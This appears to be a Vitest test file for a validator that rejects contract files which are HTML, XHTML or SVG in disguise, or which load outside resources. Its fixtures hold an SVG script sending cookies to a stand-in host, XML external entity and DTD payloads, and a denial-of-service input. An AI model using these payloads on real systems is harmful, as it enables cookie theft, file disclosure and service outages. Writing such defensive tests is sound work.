import { describe, expect, it } from 'vitest';
import { contractProblem } from '../../../main/services/validity/contract-check';

// Issue #12 item 9: contracts that are HTML by another name were accepted. Decided by content as well as type
// (asset-web-page.md §5: self-contained PDF, UTF-8 text, JPEG or PNG; never HTML).

const bytes = (s: string): Uint8Array => new TextEncoder().encode(s);
const utf16le = (s: string): Uint8Array => new Uint8Array([0xff, 0xfe, ...Buffer.from(s, 'utf16le')]);

const XHTML = `<?xml version="1.0" encoding="UTF-8"?>
<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Terms</title></head>
<body><p>One unit is one gram.</p><img src="http://elsewhere.example/clause-7.png"/></body></html>`;
const SVG_SCRIPT = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch('http://x.example/'+document.cookie)</script><text>Terms</text></svg>`;
const SVG_PLAIN = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><text y="10">One unit is one gram.</text></svg>`;

describe('contracts that are active documents by another name are refused', () => {
  const refused: [string, Uint8Array, string | null][] = [
    ['XHTML served as application/xml', bytes(XHTML), 'application/xml'],
    ['XHTML served as text/xml', bytes(XHTML), 'text/xml'],
    ['XHTML served as text/plain', bytes(XHTML), 'text/plain'],
    ['SVG with a script served as image/svg+xml', bytes(SVG_SCRIPT), 'image/svg+xml'],
    ['SVG with a script served as application/octet-stream', bytes(SVG_SCRIPT), 'application/octet-stream'],
    ['SVG without script served as image/svg+xml (can still reference outside resources)', bytes(SVG_PLAIN), 'image/svg+xml'],
    ['SVG without script served as text/plain', bytes(SVG_PLAIN), 'text/plain'],
    ['an SVG island inside other XML', bytes(`<doc><s:svg xmlns:s="http://www.w3.org/2000/svg"/></doc>`), 'application/xml'],
    ['XML that loads a stylesheet', bytes(`<?xml version="1.0"?><?xml-stylesheet href="http://x.example/s.xsl" type="text/xsl"?><terms/>`), 'application/xml'],
    ['XML with an external DTD', bytes(`<?xml version="1.0"?><!DOCTYPE terms SYSTEM "http://x.example/t.dtd"><terms>&clause;</terms>`), 'application/xml'],
    ['XML with an external entity', bytes(`<!DOCTYPE t [<!ENTITY clause SYSTEM "http://x.example/c.txt">]><t>&clause;</t>`), 'text/xml'],
    ['HTML after 2 KB of blank lines, no type', bytes(`${'\n'.repeat(2048)}<html><body>Terms</body></html>`), null],
    ['HTML as UTF-16 with a byte-order mark', utf16le('<!DOCTYPE html><html><body>Terms</body></html>'), 'text/plain'],
    ['HTML served as image/png', bytes('<html><body>not a picture</body></html>'), 'image/png'],
    ['an HTML fragment starting with <p>', bytes('<p>Terms <img src="http://x.example/a.png"></p>'), 'text/plain'],
    ['application/xhtml+xml, whatever the bytes', bytes('plain words'), 'application/xhtml+xml'],
  ];
  it.each(refused)('%s', (_name, body, type) => {
    expect(contractProblem(body, type)).toMatch(/HTML|XHTML|SVG|active|not self-contained/);
  });
});

describe('self-contained contracts are still accepted', () => {
  const accepted: [string, Uint8Array, string | null][] = [
    ['plain UTF-8 text', bytes('CONTRACT: one unit is one gram of gold.\n'), 'text/plain'],
    ['plain text that mentions <script> and <html> in a sentence', bytes('Clause 3: no <script> or <html> page forms part of this contract.'), 'text/plain'],
    ['plain text with a wrong XML type', bytes('CONTRACT: one unit is one gram.'), 'application/xml'],
    ['plain XML without active parts', bytes('<?xml version="1.0"?><terms><clause n="1">One unit is one gram.</clause></terms>'), 'application/xml'],
    ['a PDF', bytes('%PDF-1.4\n1 0 obj <<>> endobj\n%%EOF\n'), 'application/pdf'],
    ['a PNG', new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]), 'image/png'],
    ['a JPEG', new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0, 16]), 'image/jpeg'],
  ];
  it.each(accepted)('%s', (_name, body, type) => {
    expect(contractProblem(body, type)).toBeNull();
  });

  it('a 16 MB contract made of near-matches is judged quickly', () => {
    const hostile = bytes(`<!DOCTYPE ${'<!DOCTYPE x '.repeat(1_400_000)}`);
    const t0 = performance.now();
    contractProblem(hostile, 'application/xml');
    expect(performance.now() - t0).toBeLessThan(2000);
  });
});
